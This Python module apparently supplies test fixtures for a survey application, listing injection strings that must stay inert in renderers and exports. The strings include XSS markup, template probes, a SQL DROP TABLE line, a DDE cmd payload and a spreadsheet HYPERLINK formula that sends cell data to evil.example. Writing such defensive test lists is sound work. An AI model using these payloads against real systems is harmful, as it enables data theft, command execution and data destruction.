"""Injection payloads: markup, script, template, URL and spreadsheet-formula attacks.

Each is valid text a survey respondent could type (a name, an organisation, a comment)
and must come out of every renderer and export as that same text, doing nothing.
"""

from __future__ import annotations

#: Strings that must stay inert wherever they are shown or written.
PAYLOADS: tuple[str, ...] = (
    "</script><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    '<a href="javascript:alert(1)">href me</a>',
    "title with href=javascript:alert(1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "'; DROP TABLE project; --",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "${alert(1)}",
    "\u202egnp.exe",
)

#: Raw markup that must never appear unescaped in an HTML page built from the payloads.
DANGEROUS_MARKUP: tuple[str, ...] = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">',
    "<style>*{display:none}</style>",
    "<iframe srcdoc=",
)

#: The first character of a spreadsheet formula (and tab/CR that some programs strip first).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
